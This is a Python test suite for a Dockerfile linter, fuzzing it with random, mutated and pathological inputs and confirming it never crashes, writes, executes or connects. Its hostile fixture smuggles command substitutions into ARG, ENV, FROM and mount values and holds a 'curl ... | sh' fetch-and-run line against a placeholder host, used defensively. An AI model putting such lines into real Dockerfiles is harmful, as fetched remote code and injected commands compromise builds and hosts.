"""Hostile and broken input: dockerlint never crashes, stays linear, never writes, runs or connects.

Bounded for CI (the whole file runs in well under two minutes on 2 cores):
hypothesis is derandomized with a fixed number of examples, the mutation run
uses a fixed sample of the corpus and a seeded RNG.  The 10 MB file lives in
bench/bench.py; here the large inputs are 1-2 MB.
"""

from __future__ import annotations

import hashlib
import os
import random
import socket
import subprocess
import sys
import time
import uuid
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from dockerlint.cli import cli
from dockerlint.engine import lint_bytes, lint_text
from tests.conftest import corpus_files, needs_corpus
from tests.helpers import cpu_seconds
from tests.shapes import SHAPES, shape

SETTINGS = settings(max_examples=300, deadline=2000, derandomize=True,
                    suppress_health_check=[HealthCheck.too_slow])


# ---------------------------------------------------------------------------
# invariants every result must satisfy


def _check_result(text: str, res) -> None:
    assert res.error is None
    assert res.internal_errors == [], res.internal_errors
    lines = text.lstrip("\ufeff").split("\n")
    nlines = max(1, len(lines))
    for f in res.findings:
        s = f.span
        assert 1 <= s.line <= s.end_line <= nlines, (f, nlines)
        assert s.column >= 1 and s.end_column >= 1, f
        assert (s.line, s.column) <= (s.end_line, s.end_column), f
        last = lines[s.end_line - 1].rstrip("\r") if s.end_line <= len(lines) else ""
        assert s.end_column <= len(last) + 2, (f, len(last))
        first = lines[s.line - 1].rstrip("\r") if s.line <= len(lines) else ""
        assert s.column <= len(first) + 2, (f, len(first))


def _lint(text: str):
    res = lint_text(text, "Dockerfile")
    _check_result(text, res)
    return res


# ---------------------------------------------------------------------------
# property tests

FRAGMENTS = [
    "FROM ", "FROM golang:1.22 AS build", "FROM scratch", "FROM build", "FROM $BASE", "AS ", "RUN ",
    "RUN --mount=type=cache,target=/root/.cache ", "COPY --from=build ", "COPY ", "ADD ", "ENV ", "ARG ",
    "LABEL ", "CMD ", "ENTRYPOINT ", "HEALTHCHECK ", "ONBUILD ", "SHELL ", "USER ", "WORKDIR ", "EXPOSE ",
    "apt-get update", "apt-get install -y gcc", "&&", "||", ";", "|", "\\", "`", "\\\n", "`\n", "\n",
    "\r\n", "  ", "\t", "<<EOF", "<<-EOF", "<<'EOF'", "EOF", "$(", ")", "${", "}", "$X", '"', "'", "[",
    "]", '["sh", "-c", "', "=", "A=1", "--", "--link", "--chmod=", "# escape=`", "# syntax=x", "#",
    "go build -o /app .", "rm -rf /var/lib/apt/lists/*", "CGO_ENABLED=1", "\ufeff", "é", "\x0b", "\x00",
    "a" * 80, "if true; then", "fi", "case $x in", "esac", "(", "{", "}",
]

dockerfile_text = st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=12)), max_size=60).map("".join)


@SETTINGS
@given(dockerfile_text)
def test_random_dockerfile_text_never_raises_and_spans_lie_in_the_file(text):
    _lint(text)


@SETTINGS
@given(st.binary(max_size=400))
def test_random_bytes_never_raise(data):
    res = lint_bytes(data, "Dockerfile")
    if res.error is None:
        _check_result(res.text, res)


@settings(max_examples=15, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck))
@given(st.lists(st.sampled_from(FRAGMENTS), min_size=5, max_size=30).map("".join))
def test_time_is_roughly_linear_in_size(block):
    block = block + "\n"
    small, big = block * 40, block * 640  # 16x the text

    def best(text):
        return min(cpu_seconds(lint_text, text, "Dockerfile") for _ in range(2))

    t_small, t_big = best(small), best(big)
    # linear would be 16x; allow 3x slack for noise, plus a floor for tiny timings
    assert t_big <= 48 * t_small + 0.25, (t_small, t_big)


# ---------------------------------------------------------------------------
# mutation run over the corpus


def _mutations(data: bytes, rng: random.Random):
    lines = data.split(b"\n")
    yield "truncate", data[: rng.randrange(len(data) + 1)]
    pos = rng.randrange(len(data) + 1)
    yield "insert-bytes", data[:pos] + bytes(rng.randrange(256) for _ in range(rng.randint(1, 8))) + data[pos:]
    pos = rng.randrange(len(data) + 1)
    yield "insert-text", data[:pos] + rng.choice([b"\\", b"`", b"\n", b"<<EOF\n", b'"', b"$(", b"\r"]) + data[pos:]
    if lines:
        k = rng.randrange(len(lines))
        yield "drop-line", b"\n".join(lines[:k] + lines[k + 1:])
        k = rng.randrange(len(lines))
        yield "duplicate-line", b"\n".join(lines[: k + 1] + lines[k:])
    if data.startswith(b"# escape="):
        yield "flip-escape", b"\n".join(lines[1:])
    else:
        yield "flip-escape", b"# escape=`\n" + data


@needs_corpus
def test_mutation_run_over_the_corpus_never_crashes():
    files = corpus_files()[::5]  # every 5th file: ~510 files, 6-7 mutations each
    rng = random.Random(6)
    counts: dict[str, int] = {}
    linted = rejected = crashes = 0
    failures = []
    for path in files:
        data = path.read_bytes()
        for kind, mutated in _mutations(data, rng):
            counts[kind] = counts.get(kind, 0) + 1
            try:
                res = lint_bytes(mutated, str(path))
                if res.error is not None:
                    rejected += 1  # not UTF-8 / binary: a one-line input error, by design
                    continue
                _check_result(res.text, res)
                linted += 1
            except Exception as e:  # noqa: BLE001 - counting crashes is the point
                crashes += 1
                failures.append(f"{path.name} {kind}: {type(e).__name__}: {e}")
    total = sum(counts.values())
    print(f"\nmutation run: {len(files)} files, {total} mutants {counts}; linted {linted}, "
          f"rejected as input errors {rejected}, crashes {crashes}")
    assert len(files) > 400 and total >= 6 * len(files)
    assert linted + rejected == total
    assert crashes == 0, failures[:5]


# ---------------------------------------------------------------------------
# pathological inputs

BAIT = "a" * 50000 + "!"
PATHOLOGICAL = {
    "10k-continuations": "FROM debian\nRUN apt-get update \\\n" + " && echo a \\\n" * 10000 + " && true\n",
    "10k-continuations-backtick": "# escape=`\nFROM debian\nRUN echo a `\n" + " b `\n" * 10000 + " c\n",
    "unterminated-heredoc": "FROM alpine\nRUN <<EOF\n" + "echo hi\n" * 1000,
    "60KB-line": "FROM alpine\nRUN echo " + "x" * 60000 + "\n",
    "over-64KB-line": "FROM alpine\nRUN echo " + "x" * 70000 + "\nRUN true\n",
    "unbalanced-quotes": 'FROM alpine\nRUN echo "abc\nENV A="x B=\'y\nLABEL a=\'b\nCMD ["x\nARG Q="\n',
    "nested-substitution": "FROM alpine\nRUN echo " + "$(" * 3000 + "true" + ")" * 3000 + "\n",
    "nested-backticks": "FROM alpine\nRUN echo " + "`echo \\" * 500 + "`\n",
    "nested-braces": "FROM alpine\nARG X=" + "${A:-" * 3000 + "x" + "}" * 3000 + "\nFROM $X\n",
    "nested-subshells": "FROM alpine\nRUN " + "(" * 3000 + "true" + ")" * 3000 + "\n",
    "many-stages": "".join(f"FROM alpine AS s{i}\nCOPY --from=s{max(i - 1, 0)} /a /a\n" for i in range(5000)),
    "many-flags": "FROM alpine\nRUN " + "--mount=type=cache,target=/x " * 3000 + "true\n",
    "long-csv-mount": "FROM alpine\nRUN --mount=type=cache,target=" + '"' * 20000 + " true\n",
}
for _kw in ("FROM", "ENV", "LABEL", "ARG", "RUN", "COPY", "ADD", "EXPOSE", "USER", "WORKDIR", "HEALTHCHECK",
            "CMD", "SHELL", "ONBUILD", "STOPSIGNAL", "XYZ"):
    PATHOLOGICAL[f"bait-{_kw}"] = f"FROM alpine\n{_kw} {BAIT}\n{_kw} {BAIT.replace('a', 'a=')}\n"
PATHOLOGICAL["bait-copy-from"] = f"FROM alpine\nCOPY --from={BAIT} /a /b\nRUN --mount={BAIT} x\n"
PATHOLOGICAL["bait-directive"] = f"# syntax={BAIT}\n# escape={BAIT}\nFROM alpine\n"
PATHOLOGICAL["bait-json"] = 'FROM alpine\nCMD ["' + "\\" * 50000 + '!\n' + 'RUN ["' + '", "' * 20000 + "\n"
PATHOLOGICAL["bait-heredoc-name"] = f"FROM alpine\nRUN <<{BAIT}\nx\n"
PATHOLOGICAL["bait-spaces"] = "FROM alpine\nRUN" + " " * 50000 + "!\nENV" + " \t" * 25000 + "=\n"


@pytest.mark.parametrize("name", sorted(PATHOLOGICAL))
def test_pathological_inputs(name):
    text = PATHOLOGICAL[name]
    out = []
    elapsed = cpu_seconds(lambda: out.append(_lint(text)))
    assert elapsed < 10, f"{name}: {elapsed:.1f}s of CPU"
    assert isinstance(out[0].findings, list)


def _heredoc(lines: int) -> str:
    return "FROM alpine\nRUN <<EOF\n" + "echo hi && apk add gcc\n" * lines + "EOF\nCMD [\"x\"]\n"


def test_a_100k_line_heredoc_is_linted_in_linear_time():
    # Two CPU-time measurements of the same code on the same machine: their ratio holds
    # under load, where an absolute bound does not.  A per-install scan over the RUN's
    # kept packages once made this 1,350 s of CPU; linear is about 10x the 10k-line run.
    small = cpu_seconds(lambda: _lint(_heredoc(10000)))
    out = []
    large = cpu_seconds(lambda: out.append(_lint(_heredoc(100000))))
    assert large < 20 * small + 1, f"10k lines {small:.1f}s, 100k lines {large:.1f}s of CPU"
    assert large < 120, f"100k lines: {large:.1f}s of CPU"
    assert any(f.code == "DKL101" or f.code == "DKL102" for f in out[0].findings)


def test_a_megabyte_file_is_linted_in_bounded_time():
    sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "bench"))
    try:
        import bench
    finally:
        sys.path.pop(0)
    text = bench.synthetic(1_000_000)
    assert cpu_seconds(_lint, text) < 10


@pytest.mark.parametrize("name", sorted(SHAPES))
def test_each_shape_grows_linearly(name):
    # issue 12: many stages, one stage of many RUNs, many ENV lines, ENV/RUN alternating, one long
    # heredoc, one long continuation chain.  16x the text must cost about 16x the CPU time (30x
    # allowed for noise); a quadratic pass (a RUN compared with every other, a scope copied per
    # instruction) gives 256x.  Measured linear: 16-20x; a per-install scan over the RUN's kept
    # packages in DKL202 (heredoc) gave 36x at these sizes and 44 s at 1 MB, and 48x let it
    # through.  bench/shapes.py measures the same shapes at 1 MB and 10 MB.
    small = min(cpu_seconds(_lint, shape(name, 32_000)) for _ in range(2))
    big = cpu_seconds(_lint, shape(name, 512_000))
    assert big < 30 * small + 0.5, f"{name}: 32 KB {small:.2f}s, 512 KB {big:.2f}s of CPU"
    # and the constant: each shape took at most 5 s of CPU at 512 KB on a loaded 2-CPU machine
    # (2026-11-30; "runs" and "envrun" took 7 s before the parse of a repeated script was reused
    # and the per-RUN passes stopped recomputing); 20 s leaves room for a slow or busy runner
    assert big < 20, f"{name}: 512 KB took {big:.2f}s of CPU"


# ---------------------------------------------------------------------------
# an internal error in one rule on one file


def test_internal_error_in_one_rule_on_one_file(tmp_path, monkeypatch):
    import dockerlint.checks.apt_lists_not_cleaned as mod

    original = mod.check

    def broken(model):
        if model.path.endswith("bad.Dockerfile"):
            raise RuntimeError("boom")
        return original(model)

    monkeypatch.setattr(mod, "check", broken)
    text = "FROM debian\nRUN apt-get update && apt-get install -y curl\n"
    (tmp_path / "good.Dockerfile").write_text(text)
    (tmp_path / "bad.Dockerfile").write_text(text)
    (tmp_path / "z.Dockerfile").write_text(text)
    paths = [str(tmp_path / n) for n in ("good.Dockerfile", "bad.Dockerfile", "z.Dockerfile")]
    r = CliRunner().invoke(cli, ["--format", "json", *paths])
    assert r.exit_code == 2
    assert "bad.Dockerfile: internal error in DKL201 (RuntimeError: boom" in r.stderr
    assert "good.Dockerfile" not in r.stderr and "z.Dockerfile" not in r.stderr
    import json

    doc = json.loads(r.stdout)
    blob = json.dumps(doc)
    # the other files keep their DKL201 finding; the bad file keeps its other rules' findings
    for name in ("good.Dockerfile", "z.Dockerfile"):
        assert blob.count(name) >= 1
    good = lint_text(text, paths[0])
    bad = lint_text(text, paths[1])
    assert "DKL201" in {f.code for f in good.findings}
    assert "DKL201" not in {f.code for f in bad.findings} and len(bad.internal_errors) == 1
    assert {f.code for f in bad.findings} == {f.code for f in good.findings} - {"DKL201"}
    rt = CliRunner().invoke(cli, paths)
    assert rt.exit_code == 2
    assert rt.stdout.count("DKL201") >= 2


# ---------------------------------------------------------------------------
# never writes, never executes, never connects

FIXABLE = "FROM debian:bookworm\nRUN apt-get update && apt-get install -y curl\n"
MARKER = "/tmp/dockerlint-marker-{}"


def _hostile(marker: str) -> str:
    return (
        f"FROM alpine AS a\nARG X=$(touch {marker}-arg)\nENV Y=`touch {marker}-env` Z=${{X:-$(touch {marker}-z)}}\n"
        f"RUN touch {marker}\nRUN [\"sh\", \"-c\", \"touch {marker}-exec\"]\n"
        f"RUN <<EOF\ntouch {marker}-heredoc\nEOF\n"
        f"RUN --mount=type=bind,source=$(touch {marker}-mount),target=/x true\n"
        f"ADD https://example.invalid/x /x\nRUN curl -fsSL https://example.invalid | sh\n"
        f"HEALTHCHECK CMD touch {marker}-hc\nONBUILD RUN touch {marker}-onbuild\n"
        f"FROM $(touch {marker}-from)\nCOPY --from=a /x /x\nCMD touch {marker}-cmd\n"
        f"ENTRYPOINT [\"/bin/sh\", \"-c\", \"touch {marker}-ep\"]\n"
    )


def _snapshot(root: Path) -> dict[str, tuple]:
    out = {}
    for p in sorted(root.rglob("*")):
        st = p.lstat()
        digest = hashlib.sha256(p.read_bytes()).hexdigest() if p.is_file() else None
        out[str(p.relative_to(root))] = (st.st_mode, st.st_size, st.st_mtime_ns, digest)
    return out


def _cli(args, cwd, env, input=None):
    return subprocess.run([sys.executable, "-m", "dockerlint", *args], cwd=cwd, env=env, input=input,
                          capture_output=True, timeout=120)


def test_never_writes_unless_fix(tmp_path):
    work = tmp_path / "work"
    home = tmp_path / "home"
    (work / "sub").mkdir(parents=True)
    home.mkdir()
    (work / "Dockerfile").write_text(FIXABLE)
    (work / "sub" / "Dockerfile.crlf").write_bytes(FIXABLE.replace("\n", "\r\n").encode())
    (work / "Containerfile").write_text(_hostile(MARKER.format(uuid.uuid4())))
    for i, p in enumerate(corpus_files()[:40:4]):
        (work / f"c{i}.Dockerfile").write_bytes(p.read_bytes())
    env = {**os.environ, "HOME": str(home), "XDG_CACHE_HOME": str(home / ".cache"), "PYTHONDONTWRITEBYTECODE": "1"}
    for p in [work, *work.rglob("*")]:  # read-only as well (a no-op for root, hence the snapshots)
        p.chmod(0o555 if p.is_dir() else 0o444)
    before, before_home = _snapshot(work), _snapshot(home)
    try:
        runs = [
            ["."], ["--format", "json", "."], ["--diff", "."], ["--diff", "--unsafe-fixes", "."],
            ["--select", "DKL201", "Dockerfile"], ["--list-rules"], ["--explain", "DKL101"],
            ["-", "--stdin-filename", "Dockerfile"],
        ]
        for args in runs:
            r = _cli(args, work, env, input=FIXABLE.encode())
            assert r.returncode in (0, 1, 2), (args, r.stderr)
            assert b"Traceback" not in r.stderr
        assert _snapshot(work) == before
        assert _snapshot(home) == before_home
    finally:
        for p in [work, *work.rglob("*")]:
            p.chmod(0o755 if p.is_dir() else 0o644)
    # the control: --fix does write, so the snapshot would have seen a write
    r = _cli(["--fix", "Dockerfile"], work, env)
    assert (work / "Dockerfile").read_text() != FIXABLE, r.stderr
    assert _snapshot(work) != before


@pytest.fixture
def no_exec_no_net(monkeypatch):
    """Any process start or network connection during the test raises."""
    import shutil

    calls = []

    def forbid(what):
        def raiser(*a, **k):
            calls.append(what)
            raise AssertionError(f"dockerlint tried {what}")
        return raiser

    for name in ("Popen",):
        monkeypatch.setattr(subprocess, name, forbid(f"subprocess.{name}"))
    for name in ("system", "popen", "fork", "forkpty", "execv", "execve", "execvp", "execvpe", "execl",
                 "execlp", "spawnv", "spawnve", "posix_spawn", "posix_spawnp"):
        if hasattr(os, name):
            monkeypatch.setattr(os, name, forbid(f"os.{name}"))
    monkeypatch.setattr(socket.socket, "connect", forbid("socket.connect"))
    monkeypatch.setattr(socket.socket, "connect_ex", forbid("socket.connect_ex"))
    monkeypatch.setattr(socket.socket, "sendto", forbid("socket.sendto"))
    monkeypatch.setattr(socket, "create_connection", forbid("socket.create_connection"))
    monkeypatch.setattr(socket, "getaddrinfo", forbid("socket.getaddrinfo"))
    monkeypatch.setattr(socket, "gethostbyname", forbid("socket.gethostbyname"))
    monkeypatch.setattr(shutil, "which", forbid("shutil.which"))
    yield calls
    assert calls == []


def test_never_executes_or_connects_in_process(tmp_path, no_exec_no_net):
    marker = MARKER.format(uuid.uuid4())
    texts = [_hostile(marker), FIXABLE, *(p.read_text("utf-8", "replace") for p in corpus_files()[::50])]
    for text in texts:
        lint_text(text, "Dockerfile")
    files = []
    for i, text in enumerate(texts[:5]):
        f = tmp_path / f"{i}.Dockerfile"
        f.write_text(text)
        files.append(str(f))
    for args in (["--format", "json"], ["--diff", "--unsafe-fixes"], ["--fix", "--unsafe-fixes"]):
        r = CliRunner().invoke(cli, [*args, *files])
        assert r.exit_code in (0, 1), r.output
    assert not list(Path("/tmp").glob(Path(marker).name + "*"))


def test_hostile_dockerfile_runs_nothing_as_a_subprocess(tmp_path):
    marker = MARKER.format(uuid.uuid4())
    (tmp_path / "Dockerfile").write_text(_hostile(marker))
    for args in (["Dockerfile"], ["--diff", "--unsafe-fixes", "Dockerfile"], ["--fix", "--unsafe-fixes", "Dockerfile"]):
        r = _cli(args, tmp_path, dict(os.environ))
        assert r.returncode in (0, 1), r.stderr
    assert not list(Path("/tmp").glob(Path(marker).name + "*"))

